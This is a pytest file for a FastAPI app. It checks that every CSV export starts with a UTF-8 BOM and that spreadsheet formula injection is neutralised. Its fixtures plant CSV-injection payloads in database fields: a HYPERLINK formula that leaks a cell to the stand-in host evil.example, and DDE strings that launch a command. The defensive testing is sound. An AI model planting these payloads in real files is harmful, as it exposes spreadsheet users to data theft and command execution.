"""Every CSV the app hands out is UTF-8 with a BOM and carries no live spreadsheet formula.

The routes are discovered from the app itself (every GET route whose path ends in ``.csv`` or that answers
with ``CsvResponse``), so a new CSV export is covered the day it is added; a path parameter the test cannot
fill fails loudly instead of being skipped.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

from fastapi.routing import iter_route_contexts
from sqlalchemy import select, update

from app.core.csvout import BOM, FORMULA_STARTS, CsvResponse, csv_response, csv_text, safe_cell
from app.core.tenancy import SYSTEM, bind_principal
from app.kt.cctv.models import CctvCamera
from app.kt.robots.models import Robot
from app.kt.worknet.models import Lease, Pool, Router
from app.platform import demo
from app.platform.models import Kpi, KpiValue, Program
from app.skt.tdeal.models import TdealCampaign, TdealCoupon, TdealMerchant
from tests.conftest import api_headers, web_login

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Text fields that the exports include, each given a formula (one per starting character OWASP lists).
PLANTS = [
    (KpiValue.note, "+cmd|' /C calc'!A0"),
    (Router.model, "-2+3+cmd|' /C calc'!A0"),
    (Router.department, "@SUM(1+9)*cmd|' /C calc'!A0"),
    (CctvCamera.name, "=1+1"),
    (Robot.name, "\t=2+2"),
    (TdealMerchant.name, "\r=3+3"),
    (TdealCoupon.name, "=4+4"),
]
# A plain number (a negative one starts with "-") is a value, not a formula: the exports keep them numbers.
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?")
# Variants a route answers besides its defaults (a query parameter that picks another table).
VARIANTS = {
    "/skt/tdeal/campaigns/{campaign_id}/report.csv": [{"part": p} for p in ("merchants", "cities", "coupons", "daily")],
    "/kt/robots/stats.csv": [{"per": "robot"}, {"per": "day"}],
    "/api/v1/kt/robots/stats.csv": [{"per": "robot"}, {"per": "day"}],
}


def test_safe_cell_neutralises_formula_text_and_keeps_numbers():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(FORMULA) == "'" + FORMULA
    assert safe_cell("창원시 =1") == "창원시 =1"  # only the first character counts
    assert safe_cell(None) == ""
    # Real numbers stay numbers, negative ones included: a spreadsheet can sum them, they cannot be formulas.
    assert safe_cell(-3) == -3 and safe_cell(-1.5) == -1.5 and safe_cell(Decimal("-2.50")) == Decimal("-2.50")
    # A negative number that arrives as text is text, and is quoted (the exports pass numbers as numbers).
    assert safe_cell("-3") == "'-3"
    assert csv_text(["a", "b"], [[FORMULA, -7]]) == "a,b\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-7\r\n"


def test_csv_response_is_utf8_with_bom_and_a_korean_file_name():
    r = csv_response("창원 프로그램.csv", ["이름"], [["창원시"]])
    assert r.body.startswith(BOM.encode("utf-8"))
    assert r.body.decode("utf-8") == "\ufeff이름\r\n창원시\r\n"
    assert r.media_type == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == ("attachment; filename*=UTF-8''"
                                                "%EC%B0%BD%EC%9B%90%20%ED%94%84%EB%A1%9C%EA%B7%B8%EB%9E%A8.csv")


def _csv_routes(app) -> list[str]:
    return sorted({r.path for r in iter_route_contexts(app.routes) if r.path and "GET" in (r.methods or ())
                   and (r.path.endswith(".csv") or getattr(r, "response_class", None) is CsvResponse)})


def _plant(database) -> dict[str, int]:
    """Formulas into text fields the exports include; the ids that fill the routes' path parameters."""
    with database.unit_of_work() as s:
        bind_principal(s, SYSTEM)
        # a program with a KPI typed by hand: its values' notes are in the KPI export (a bound KPI's are not)
        program = s.scalars(select(Program).where(Program.kpis.any(Kpi.source_key.is_(None) & Kpi.values.any()))
                            .order_by(Program.id)).first()
        program.title = FORMULA
        for column, value in PLANTS:
            s.execute(update(column.class_).values({column.key: value}))
        pool = s.get(Pool, s.scalar(select(Lease.pool_id).where(Lease.released_at.is_(None)).order_by(Lease.id)))
        campaign = s.scalars(select(TdealCampaign).order_by(TdealCampaign.id)).first()
        return {"program_id": program.id, "pool_id": pool.id, "campaign_id": campaign.id}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_route_is_bom_utf8_and_formula_free(app, client, database):
    demo.load_all(database)
    ids = _plant(database)
    web_login(client, "admin", demo.DEMO_PASSWORD)
    bearer = api_headers(client, "admin", demo.DEMO_PASSWORD)
    routes = _csv_routes(app)
    # The exports this test knows exist; discovery must find at least these (and covers any new one).
    for known in ("/programs.csv", "/api/v1/kt/worknet/pools/{pool_id}/export.csv", "/kt/voicebot/stats.csv",
                  "/kt/cctv/stats.csv", "/kt/robots/stats.csv", "/skt/isolation/ranking.csv",
                  "/skt/tdeal/merchants.csv", "/lguplus/merchants/report.csv", "/lguplus/citydata/market.csv"):
        assert known in routes, known
    neutralised: set[str] = set()
    for path in routes:
        params = re.findall(r"{(\w+)}", path)
        missing = [p for p in params if p not in ids]
        assert not missing, f"{path}: give the test an id for {missing}"
        url = path.format(**ids)
        for query in VARIANTS.get(path, [{}]):
            r = client.get(url, params=query, headers=bearer if path.startswith("/api/") else {})
            assert r.status_code == 200, (url, query, r.status_code, r.text[:300])
            assert r.headers["content-type"] == "text/csv; charset=utf-8", url
            assert r.content.startswith(BOM.encode("utf-8")), f"{url} has no BOM"
            text = r.content.decode("utf-8")[1:]
            cells = _cells(text)
            assert cells, url
            live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
            assert not live, (url, query, live[:5])
            neutralised |= {c[1:] for c in cells if c.startswith("'")}
            # The exports pass numbers as numbers: none comes out quoted as if it were text.
            assert not [c for c in cells if c.startswith("'") and NUMBER.fullmatch(c[1:])], url
    # The planted formulas did come out (inert), so the check above looked at them.
    assert FORMULA in neutralised
    expected = {value for _column, value in PLANTS}
    assert expected <= neutralised, expected - neutralised
